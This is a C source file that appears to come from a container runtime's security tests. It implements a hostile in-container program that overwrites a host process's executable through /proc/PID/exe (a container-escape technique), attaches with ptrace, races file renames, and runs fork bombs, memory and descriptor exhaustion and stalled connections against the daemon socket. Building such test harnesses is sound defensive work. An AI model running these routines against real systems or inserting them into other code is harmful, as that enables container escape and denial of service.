/*
 * attack.c - what a hostile program in a container does, for tests/security
 *
 *	attack overwrite SECONDS FILE...	holds the program file of whatever process appears and of each FILE, writes to it as soon as it can;
 *						SECONDS+MORE: for SECONDS from the first that it holds, for which it waits MORE
 *	attack trace SECONDS			attaches to whatever process appears and says what it holds
 *	attack swap A B SECONDS			exchanges two names as often as it can
 *	attack connect PATH|@NAME		connects to a socket
 *	attack caps				prints its effective capabilities and user
 *	attack open PATH			opens for reading and writing, and says whether that went
 *	attack descriptors SECONDS		opens all that it may, and keeps it open
 *	attack fork COUNT SECONDS		so many children; over 100000: they fork themselves, again and again
 *	attack memory MIB SECONDS		takes that much, and writes to it
 *	attack clients SOCKET silent|half|deaf COUNT [PATH]
 *						connections to pouchd that say nothing, half a request, or a whole one (POST an attachment,
 *						GET anything else) whose answer they do not read; until it is ended
 *	attack as USER PROGRAM ARGUMENT...	is another program, of that user and group, with no capability and no way to any
 *
 * Built static without the GNU C library: it is the container's only file, or its dynamic loader, when it is called by another name.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_SIZE(a) (sizeof(a) / sizeof(*(a)))

static double now(void)
{
	struct timeval t;

	gettimeofday(&t, NULL);
	return (double)t.tv_sec + (double)t.tv_usec / 1e6;
}

static int result(const char *what, int ok)
{
	if (ok)
		printf("%s: yes\n", what);
	else
		printf("%s: no, %s\n", what, strerror(errno));
	fflush(stdout);
	return !ok;
}

/* ---- the program file of another process --------------------------------------------------------------------------------------- */

static struct {
	int fd;
	dev_t dev;
	ino_t ino;
} held[64];
static size_t held_count;
static struct stat own;

static void hold(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	struct stat st;

	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || held_count == ARRAY_SIZE(held) || !S_ISREG(st.st_mode) ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino)) {
		close(fd);
		return;
	}
	for (size_t i = 0; i < held_count; i++) {
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	}
	held[held_count].fd = fd;
	held[held_count].dev = st.st_dev;
	held[held_count++].ino = st.st_ino;
	printf("holds %s\n", path);
	fflush(stdout);
}

/* Each number below /proc that is neither ours nor the first process's. */
static void each_process(void (*with)(int pid))
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d))) {
		int pid = atoi(e->d_name);

		if (pid > 1 && pid != getpid())
			with(pid);
	}
	if (d)
		closedir(d);
}

static void hold_program_of(int pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	hold(path);
}

/* Busy while it is executed, free once that is over. */
static int write_held(void)
{
	static const char text[] = "#!/bin/overwritten\n";
	char path[64];
	int written = 0;

	for (size_t i = 0; i < held_count; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, text, sizeof(text) - 1) > 0)
			written++;
		close(fd);
	}
	return written;
}

static int overwrite(int argc, char **argv)
{
	char *more;
	double seconds = strtod(argv[0], &more), end = now() + seconds + (*more ? atof(more) : 0);
	int written = 0;

	if (stat("/proc/self/exe", &own) < 0)
		return result("overwrite", 0);
	for (int i = 1; i < argc; i++)
		hold(argv[i]);
	printf("watching\n");
	fflush(stdout);
	for (size_t before = 0; now() < end && !written; before = held_count) {
		each_process(hold_program_of);
		if (*more && !before && held_count)
			end = now() + seconds;
		written = write_held();
	}
	printf("held %zu, overwrote %d\n", held_count, written);
	return !written;
}

/* As the dynamic loader of a program that was started as "#!/proc/self/exe": this very process is the host's program. */
static int as_loader(void)
{
	int fd = open("/proc/self/exe", O_RDONLY);
	char path[64];
	int to;

	setvbuf(stdout, NULL, _IONBF, 0);
	printf("loaded by the program\n");
	to = open("/proc/self/exe", O_WRONLY);
	if (to >= 0)
		return result("overwrite its own", write(to, "x", 1) == 1);
	printf("while it runs: %s\n", strerror(errno));
	/* What executes it must be gone: become another program. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	execl("/bin/attack", "attack", "overwrite", "1.5", path, (char *)NULL);
	return 1;
}

/* ---- others ---------------------------------------------------------------------------------------------------------------------- */

static int traced;

static void show_traced(int pid)
{
	char path[64], line[256];
	FILE *f;

	traced++;
	printf("traces a process\n");
	for (int fd = 0; fd < 20; fd++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		n = readlink(path, line, sizeof(line) - 1);
		if (n > 0)
			printf("  fd %d: %.*s\n", fd, (int)n, line);
	}
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "CapEff:", 7) == 0 || strncmp(line, "Name:", 5) == 0)
			printf("  %s", line);
	if (f)
		fclose(f);
	fflush(stdout);
}

static void attach(int pid)
{
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return;
	(void)waitpid(pid, NULL, 0x40000000 /* __WALL */);
	show_traced(pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static int trace(int argc, char **argv)
{
	double end = now() + atof(argv[0]);

	(void)argc;
	printf("watching\n");
	fflush(stdout);
	while (now() < end)
		each_process(attach);
	printf("traced %d\n", traced);
	return 0;
}

/* Where the kernel cannot exchange names there are moments without @a. What others make there meanwhile is put aside. */
static int exchange_in_steps(const char *a, const char *b, double end)
{
	static unsigned long n;
	char away[4096], aside[4096];

	snprintf(away, sizeof(away), "%s.away", a);
	if (rename(a, away) < 0)
		return -1;
	while (rename(b, a) < 0) {
		if (now() > end)
			return -1;
		snprintf(aside, sizeof(aside), "%s.aside%lu", a, n++);
		(void)rename(a, aside);	/* or it is a mount point just now */
	}
	while (rename(away, b) < 0)
		if (errno != EBUSY || now() > end)
			return -1;
	return 0;
}

static int swap(int argc, char **argv)
{
	double end = now() + atof(argv[2]);
	unsigned long n = 0;

	(void)argc;
	do {
		if (syscall(316 /* renameat2 */, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2u /* RENAME_EXCHANGE */) == 0) {
			n++;
			continue;
		}
		if (errno != ENOSYS)
			return result("swap", 0);
		if (exchange_in_steps(argv[0], argv[1], end + 30) == 0)
			n++;
		else if (errno != EBUSY)	/* a mount point, from the first step on */
			return result("swap", 0);
	} while ((n % 64 && now() < end + 1) || now() < end);
	printf("swapped %lu times\n", n);
	return 0;
}

static int reach(int argc, char **argv)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t len = strlen(argv[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)argc;
	if (len >= sizeof(a.sun_path))
		return 2;
	memcpy(a.sun_path, argv[0], len);
	if (*argv[0] == '@')
		a.sun_path[0] = '\0';
	return result("connect", connect(fd, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len)) == 0);
}

static int caps(int argc, char **argv)
{
	char line[256];
	FILE *f = fopen("/proc/self/status", "r");

	(void)argc;
	(void)argv;
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "CapEff:", 7) == 0 || strncmp(line, "CapBnd:", 7) == 0)
			fputs(line, stdout);
	printf("uid %d\n", (int)geteuid());
	if (f)
		fclose(f);
	return 0;
}

static int open_path(int argc, char **argv)
{
	(void)argc;
	return result("open", open(argv[0], O_RDWR | O_NONBLOCK) >= 0);
}

static int descriptors(int argc, char **argv)
{
	unsigned long n = 0;

	(void)argc;
	while (open("/proc/self/status", O_RDONLY) >= 0)
		n++;
	printf("opened %lu\n", n);
	fflush(stdout);
	sleep((unsigned)atoi(argv[0]));
	return 0;
}

static int bomb(int argc, char **argv)
{
	long most = atol(argv[0]), n = 0;
	double end = now() + atof(argv[1]);
	int wild = most > 100000;

	(void)argc;
	signal(SIGCHLD, SIG_IGN);
	while (now() < end) {
		pid_t pid = fork();

		if (pid == 0) {
			/* The children of a bomb are bombs. */
			for (;;) {
				if (!wild)
					pause();
				else if (fork() < 0)
					usleep(10000);
			}
		}
		if (pid > 0 && ++n == most)
			break;
		if (pid < 0)
			(void)sched_yield();
	}
	printf("forked %ld\n", n);
	fflush(stdout);
	while (now() < end)
		pause();
	return 0;
}

static int memory(int argc, char **argv)
{
	size_t len = (size_t)atol(argv[0]) << 20;
	char *p = malloc(len);

	(void)argc;
	if (!p)
		return result("memory", 0);
	for (size_t i = 0; i < len; i += 4096)
		p[i] = 1;
	printf("took %s MiB\n", argv[0]);
	fflush(stdout);
	sleep((unsigned)atoi(argv[1]));
	return 0;
}

static int pouchd_connect(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	/* A full backlog is a server that is busy: as good as held. */
	fcntl(fd, F_SETFL, O_NONBLOCK);
	for (int tries = 0; connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0; tries++) {
		if (tries == 20) {
			close(fd);
			return -1;
		}
		usleep(5000);
	}
	return fd;
}

static int clients(int argc, char **argv)
{
	struct rlimit most = {20000, 20000};
	const char *path = argc > 3 ? argv[3] : "/_ping";
	int attach = strstr(path, "/attach") != NULL, count = atoi(argv[2]), held_now = 0;
	char text[1000];

	/* As a user: as far as it may go. */
	if (setrlimit(RLIMIT_NOFILE, &most) < 0 && getrlimit(RLIMIT_NOFILE, &most) == 0) {
		most.rlim_cur = most.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &most);
	}
	snprintf(text, sizeof(text), "%s %s HTTP/1.1\r\nHost: x\r\n%s", attach ? "POST" : "GET", path,
		 attach ? "Connection: Upgrade\r\nUpgrade: tcp\r\nContent-Length: 0\r\n" : "");
	signal(SIGPIPE, SIG_IGN);
	for (int i = 0; i < count; i++) {
		int fd = pouchd_connect(argv[0]);

		if (fd < 0)
			continue;
		held_now++;
		if (strcmp(argv[1], "silent") == 0)
			continue;
		if (write(fd, text, strlen(text)) > 0 && strcmp(argv[1], "deaf") == 0)
			(void)!write(fd, "\r\n", 2);
	}
	printf("held %d\n", held_now);
	fflush(stdout);
	for (;;)
		pause();
	return 0;
}

static int as(int argc, char **argv)
{
	unsigned id = (unsigned)atoi(argv[0]);

	(void)argc;
	for (unsigned long cap = 0; prctl(PR_CAPBSET_DROP, cap, 0, 0, 0) == 0;)
		cap++;
	if (setgroups(0, NULL) == 0 && setgid(id) == 0 && setuid(id) == 0)
		execvp(argv[1], argv + 1);
	return result(argv[1], 0);
}

static const struct {
	const char *name;
	int args;
	int (*run)(int argc, char **argv);
} commands[] = {
	{"overwrite", 1, overwrite}, {"trace", 1, trace}, {"swap", 3, swap},		   {"connect", 1, reach},
	{"caps", 0, caps},	     {"open", 1, open_path}, {"descriptors", 1, descriptors},
	{"fork", 2, bomb},	     {"memory", 2, memory}, {"clients", 3, clients},
	{"as", 2, as},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < ARRAY_SIZE(commands); i++)
		if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].args)
			return commands[i].run(argc - 2, argv + 2);
	if (access("/loader", F_OK) == 0)
		return as_loader();
	if (access("/linger", F_OK) == 0)
		return usleep(300000);
	fprintf(stderr, "usage: attack COMMAND ARGUMENT...; the commands are at the top of tests/security/attack.c\n");
	return 2;
}
